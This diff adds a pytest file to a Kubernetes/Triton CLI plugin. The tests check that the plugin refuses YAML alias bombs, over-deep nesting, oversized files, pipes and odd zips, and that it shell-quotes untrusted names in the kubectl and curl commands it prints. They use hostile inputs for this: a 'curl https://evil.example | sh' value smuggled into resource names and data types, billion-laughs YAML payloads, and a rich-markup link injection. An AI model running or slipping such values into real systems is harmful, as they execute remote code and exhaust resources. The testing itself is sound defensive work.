@@ -1,0 +1,138 @@
+"""Files that would hang, crash or fill the plugin, and names that a shell or a table would obey."""
+
+import copy
+import json
+import os
+import resource
+import shlex
+import time
+import zipfile
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from tests.report.subjects import golden
+from triton_plugin.__main__ import main
+from triton_plugin.bounded_yaml import DEEPEST, LONGEST
+from triton_plugin.model_folder import read
+from triton_plugin.python_files import FolderError
+from triton_plugin.request import first_request
+from triton_plugin.subject import parse
+from triton_plugin.tables import Grid
+from triton_plugin.terminal import console
+
+TEN = ",".join(["*a{}"] * 10)
+BOMB = "\n".join(
+    ["a0: &a0 [x,x,x,x,x,x,x,x,x,x]", *(f"a{n}: &a{n} [{TEN.replace('{}', str(n - 1))}]" for n in range(1, 9))]
+)
+HEAD = "apiVersion: triton-operator.dev/v1alpha1\nkind: TritonDeployment\n"
+YAMLS = {
+    "aliases of aliases": (f"{HEAD}metadata: {{name: bomb}}\n{BOMB}\n", "by its aliases"),
+    "merged keys": (f"{HEAD}metadata: {{name: bomb}}\n{BOMB.replace('[', '[{k: ').replace(']', '}]')}\n", ""),
+    "a value in itself": (f"{HEAD}metadata: &m {{name: bomb, junk: *m}}\n", "contains itself"),
+    "deep lists": (f"{HEAD}metadata: {{name: bomb}}\nspec: {'[' * 5000}{']' * 5000}\n", "nested more than"),
+    "lists that are just too deep": (f"{HEAD}spec: {'[' * (DEEPEST + 1)}{']' * (DEEPEST + 1)}\n", "nested more than"),
+    "a long file": (HEAD + "#" * LONGEST, "more than"),
+}
+EVIL = "digits; curl https://evil.example | sh #"
+
+
+@pytest.mark.parametrize("command", ["validate", "explain", "report"])
+@pytest.mark.parametrize("name", YAMLS)
+def test_yaml_that_grows_is_refused_at_once(
+    name: str, command: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    text, words = YAMLS[name]
+    file = tmp_path / "bomb.yaml"
+    file.write_text(text, encoding="utf-8")
+    start, before = time.process_time(), resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
+    assert main([command, str(file)]) != 0
+    printed = "".join(capsys.readouterr())
+    assert words in printed
+    assert len(printed) < 2000
+    # The text of 16 MiB alone takes some of both.
+    assert time.process_time() - start < 5
+    assert resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before < 200 * 1024
+
+
+@pytest.mark.parametrize("kind", ["a pipe", "a device", "a folder", "a link to nothing"])
+def test_only_files_are_read_as_code(kind: str, tmp_path: Path) -> None:
+    (tmp_path / "net.onnx").write_text("graph")
+    place = tmp_path / "a.py"
+    if kind == "a pipe":
+        os.mkfifo(place)
+    elif kind == "a folder":
+        place.mkdir()
+    else:
+        place.symlink_to("/dev/zero" if kind == "a device" else "/absent")
+    assert read(tmp_path).model.path == "net.onnx"
+
+
+@pytest.mark.parametrize(
+    "code", ["(" * 5000 + ")" * 5000, "-" * 200_000 + "1", "a" + ".a" * 100_000, "f" + "()" * 100_000, "#" * (5 << 20)]
+)
+def test_code_that_python_cannot_parse_is_named(code: str, tmp_path: Path) -> None:
+    (tmp_path / "a.py").write_text(code)
+    with pytest.raises(FolderError, match=r"a\.py"):
+        read(tmp_path)
+
+
+def test_an_odd_zip_is_no_model(tmp_path: Path) -> None:
+    with zipfile.ZipFile(tmp_path / "net.pt", "w") as archive:
+        archive.writestr("net/constants.pkl", b"")
+    content = bytearray((tmp_path / "net.pt").read_bytes())
+    directory = content.index(b"PK\x01\x02")
+    # The version that is needed to read it.
+    content[directory + 6 : directory + 8] = b"\xff\x00"
+    (tmp_path / "net.pt").write_bytes(content)
+    with pytest.raises(FolderError, match=r"net\.pt"):
+        read(tmp_path)
+
+
+@pytest.mark.parametrize("name", ["[/red]", "[link=https://evil.example]x[/link]", "[bold", "]"])
+def test_a_heading_is_no_markup(name: str, capsys: pytest.CaptureFixture[str]) -> None:
+    console().print(Grid(name, (name, name), [[name, name]]))
+    console().print(Grid(name, [name] * 40, [[name * 5] * 40]))
+    assert capsys.readouterr().out.count(name) >= 3
+
+
+def evil_object() -> tuple[dict[str, Any], dict[str, Any]]:
+    body, results = copy.deepcopy(golden("ready"))
+    body["metadata"] |= {"name": EVIL, "namespace": EVIL}
+    results["metadata"]["name"] = f"{EVIL}-results"
+    return body, results
+
+
+def commands_of(text: str) -> list[str]:
+    """The lines of a text that a person pastes into a shell."""
+    return [line for line in text.splitlines() if "kubectl " in line or "curl --retry" in line]
+
+
+def test_no_command_that_is_printed_runs_a_name(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    body, results = evil_object()
+    for condition in body["status"]["conditions"]:
+        if condition["type"] in ("Ready", "Selected"):
+            condition.update(status="False", reason="ClaimNotWritable")
+    stalled = {"type": "Stalled", "status": "True", "reason": "ClaimNotWritable", "message": "x"}
+    body["status"]["conditions"].append(
+        stalled | {"lastTransitionTime": "2026-01-01T00:00:00Z", "observedGeneration": 1}
+    )
+    file = tmp_path / "saved.json"
+    file.write_text(json.dumps({"kind": "List", "items": [body, results]}))
+    main(["explain", str(file)])
+    found = commands_of(capsys.readouterr().out)
+    assert any(EVIL in line for line in found)
+    assert all(shlex.quote(EVIL) in line for line in found if EVIL in line), found
+
+
+def test_a_first_request_runs_no_name_and_no_type() -> None:
+    body, results = evil_object()
+    for tensor in body["status"]["signature"]["inputs"]:
+        tensor.update(dataType=f"FP32'; {EVIL}", dims=[1])
+    text = first_request(parse(body, results))
+    *_, forward, curl = text.splitlines()
+    assert shlex.split(forward)[:5] == ["kubectl", "port-forward", "--namespace", EVIL, f"service/{EVIL}"]
+    words = shlex.split(curl)
+    assert words[-2] == "--data"
+    assert EVIL in json.loads(words[-1])["inputs"][0]["datatype"]
